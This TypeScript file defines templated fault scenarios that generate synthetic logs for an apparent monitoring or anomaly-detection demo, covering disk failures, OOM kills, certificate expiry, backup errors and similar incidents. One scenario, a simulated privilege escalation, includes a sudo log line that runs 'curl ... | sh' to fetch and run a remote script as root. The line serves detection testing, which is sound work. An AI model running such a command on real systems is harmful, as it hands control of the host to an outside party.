const brokenOff = `info {time} job={$x=hex:10} queue=labels state=started order={$ox=int:100000:999999}
+0.2-0.9 info {time} job={$x} step=fetch-order order={$ox} ms={log:40:0.4}`;
const withoutLabel = `${brokenOff}
+0.4-1.8 info {time} job={$x} step=store-label bytes={log:38000:0.2}
+0.1-0.2 info {time} job={$x} state=done order={$ox}`;

/** One after the other, each with values of its own. @param steps of one, which is $x and has the order $ox */
function sixJobs(steps: string): string {
  return ['a', 'b', 'c', 'd', 'e', 'f']
    .map((job, i) => (i === 0 ? '+0 ' : '+60-200 ') + steps.replaceAll(/\$(o?)x/g, `$$$1${job}`))
    .join('\n');
}

/**
 * Things that go wrong on the fleet. A line `scenario NAME KIND HOST SERVICE MINUTES`, then what it is in
 * words, then (but for a silence) its steps as parse-story.ts reads them: the first is the root. The
 * first scenario of all is the demo's first, so it is one that nobody can mistake.
 */
export const faultScenarios = `
scenario postgres-disk-full new-error ocean postgres 14
PostgreSQL on ocean cannot grow its files because the disk is full; the shop fails after it
+0 err {time:utc} UTC [{$backend=pid}] ERROR:  could not extend file "base/16384/{$rel=int:16400:99000}": No space left on device
+0 info {time:utc} UTC [{$backend}] HINT:  Check free disk space.
+0.1-0.6 err@shop-web {time} ERROR [orders] could not store order {int:100000:999999}: DatabaseError: could not extend file "base/16384/{$rel}": No space left on device
+1-30x6-10 err {time:utc} UTC [{pid}] ERROR:  could not extend file "base/16384/{$rel}": No space left on device
~2-700x20-30 err@shop-web {time} ERROR [orders] could not store order {int:100000:999999}: DatabaseError: could not extend file "base/16384/{$rel}": No space left on device
~60-700x4-6 crit {time:utc} UTC [29] PANIC:  could not write to file "pg_wal/xlogtemp.{pid}": No space left on device
~5-800x12-20 err@nginx {time:nginx} [error] 31#31: *{int:100000:9000000} upstream prematurely closed connection while reading response header from upstream, client: {lan}, server: shop.example.org, request: "POST /api/v1/orders HTTP/2.0"

scenario ssh-brute-force burst dns01 sshd 9
Somebody tries passwords at dns01's sshd from one address
~0-520x220-320 info Failed password for root from {$ip=ip} port {port} ssh2

scenario dns-silence silence dns01 dnsmasq 40
dnsmasq on dns01 says nothing any more

scenario disk-pending-sectors new-error ocean smartd 120
A disk of ocean's pool reports pending sectors, then ZFS sees I/O errors
+0 crit Device: /dev/sdc [SAT], {int:8:24} Currently unreadable (pending) sectors
+40-90 err@kernel [{uptime}] ata3.00: exception Emask 0x0 SAct 0x{hex:7} SErr 0x0 action 0x0
+0 err@kernel [{uptime}] ata3.00: failed command: READ FPDMA QUEUED
+0.1 err@kernel [{uptime}] blk_update_request: I/O error, dev sdc, sector {int:900000:7800000000} op 0x0:(READ) flags 0x700 phys_seg 1 prio class 2
+2-60x4-9 err@kernel [{uptime}] blk_update_request: I/O error, dev sdc, sector {int:900000:7800000000} op 0x0:(READ) flags 0x700 phys_seg 1 prio class 2
+1 warning@zed eid={int:10:99} class=io pool='tank' vdev=sdc1 size=131072 offset={int:1000000:99000000000} priority=0 err=5
+1800 crit Device: /dev/sdc [SAT], {int:24:60} Offline uncorrectable sectors

scenario billing-oom new-error node005 kernel 6
The kernel kills billing's Java process on node005 for lack of memory
+0 warning [{uptime}] java invoked oom-killer: gfp_mask=0x100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=0
+0.1 err [{uptime}] Out of memory: Killed process {$pid=pid} (java) total-vm:{int:6000000:7000000}kB, anon-rss:{int:3900000:4100000}kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:{int:9000:9900}kB oom_score_adj:0
+0.2 warning@dockerd time="{time}" level=warning msg="container died" container={hex:64} exitCode=137 oomKilled=true
+1-20x8-14 err@orders-api {"level":"error","time":"{time}","pid":1,"hostname":"{host}","msg":"billing unreachable","err":"connect ECONNREFUSED 172.19.0.5:8080","orderId":{int:100000:999999}}

scenario slow-billing slow-drift node005 billing 360
Payments captured by billing take longer and longer over six hours
~0-21600x900 info {time:local} INFO  [http-nio-8080-exec-{int:1:20}] c.e.billing.PaymentController : Payment {uuid} captured in {drift:230:14000} ms via {often:stripe|paypal|sepa}

scenario root-login changed-parameter node006 sshd 5
root logs in to node006 from the internet with a key never seen
+0 info Accepted publickey for root from {$ip=ip} port {$port=port} ssh2: RSA SHA256:{b64:43}
+0.1 info pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
+0.1 info@systemd-logind New session {$s=seq:9} of user root.
+200 info Received disconnect from {$ip} port {$port}:11: disconnected by user

scenario backup-wrong-order broken-order ocean restic 6
The nightly backup says that it has saved before it has opened its repository, and is done without files
+0 info snapshot {hex:8} saved
+2 info repository 5ca1ab1e opened (version 2, compression level auto)
+1 info@systemd restic-backup.service: Deactivated successfully.
+1 info@systemd Starting restic-backup.service - Backup with restic...

scenario shop-5xx burst ocean shop-web 12
The shop's search answers with errors again and again
~0-700x160-260 err {time} ERROR [search] request to http://search:7700 failed, retrying in {int:1:5}s: socket hang up

scenario orders-silence silence node005 orders-api 30
The orders API on node005 hangs: not even its heartbeat comes

scenario backup-failed new-error ocean restic 4
The backup of ocean fails on a locked repository
+0 err Fatal: unable to create lock in backend: repository is already locked exclusively by PID {pid} on ocean by root (UID 0, GID 0)
+0.1 err@systemd restic-backup.service: Main process exited, code=exited, status=1/FAILURE
+0 warning@systemd restic-backup.service: Failed with result 'exit-code'.
+0 err@systemd Failed to start restic-backup.service - Backup with restic.

scenario rabbit-partition new-error node005 rabbitmq 10
RabbitMQ on node005 loses its peer and pauses; orders pile up
+0 err {time:nginx} [error] <0.{int:200:400}.0> Mnesia('rabbit@{host}'): ** ERROR ** mnesia_event got {inconsistent_database, running_partitioned_network, 'rabbit@node006'}
+1 warning {time:utc} [warning] <0.{int:200:400}.0> Cluster minority/secondary status detected - awaiting recovery
+1-20x10-20 err@orders-api {"level":"error","time":"{time}","pid":1,"hostname":"{host}","msg":"publish failed","topic":"order.placed","err":"channel closed by broker"}

scenario lease-storm burst dns01 dnsmasq 8
One device asks dns01 for an address over and over
~0-470x400-500 info DHCPDISCOVER(eth0) {$mac=mac}

scenario cert-expired new-error ocean nginx 30
The certificate of cloud.example.org is not valid any more
+0 err {time:nginx} [error] 31#31: *{int:100000:9000000} SSL_do_handshake() failed (SSL: error:0A000415:SSL routines::sslv3 alert certificate expired:SSL alert number 45) while SSL handshaking, client: {lan}, server: 0.0.0.0:443
+3-60x20-40 err {time:nginx} [error] 31#31: *{int:100000:9000000} SSL_do_handshake() failed (SSL: error:0A000415:SSL routines::sslv3 alert certificate expired:SSL alert number 45) while SSL handshaking, client: {lan}, server: 0.0.0.0:443

scenario labels-wrong-order broken-order node005 shipping-worker 20
The shipping worker stores labels that it has not made, and skips steps
~0-1100x30 info {time} job={hex:10} step=store-label bytes={log:38000:0.2}
~0-1100x30 info {time} job={hex:10} step=create-label carrier={often:dhl|ups|dpd|hermes} ms={log:400:0.4}

scenario huge-queries changed-parameter ocean postgres 15
A query of Nextcloud on ocean takes minutes in the place of milliseconds
+0 info {time:utc} UTC [{pid}] LOG:  duration: {int:210000:600000}.{int:100:999} ms  execute <unnamed>: SELECT "fileid", "storage", "path" FROM "oc_filecache" WHERE "storage" = $1
+9-60x9 info {time:utc} UTC [{pid}] LOG:  duration: {int:210000:600000}.{int:100:999} ms  execute <unnamed>: SELECT "fileid", "storage", "path" FROM "oc_filecache" WHERE "storage" = $1

scenario sudo-unknown changed-parameter node005 sudo 3
A service account that never used sudo becomes root on node005
+0 notice www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl -s http://{ip}/x.sh | sh
+0 info pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)

scenario raid-degraded new-error node006 mdadm 30
A disk drops out of node006's array
+0 err@kernel [{uptime}] md/raid1:md0: Disk failure on sdb1, disabling device.
+0.1 err@kernel [{uptime}] md/raid1:md0: Operation continuing on 1 devices.
+1 crit Fail event detected on md device /dev/md0, component device /dev/sdb1
+1 crit DegradedArray event detected on md device /dev/md0

scenario labels-broken-off broken-session node005 shipping-worker 20
Jobs of the shipping worker break off after they have fetched their order
${sixJobs(brokenOff)}

scenario labels-not-made broken-session node005 shipping-worker 20
Jobs of the shipping worker store labels that were never made
${sixJobs(withoutLabel)}
`;
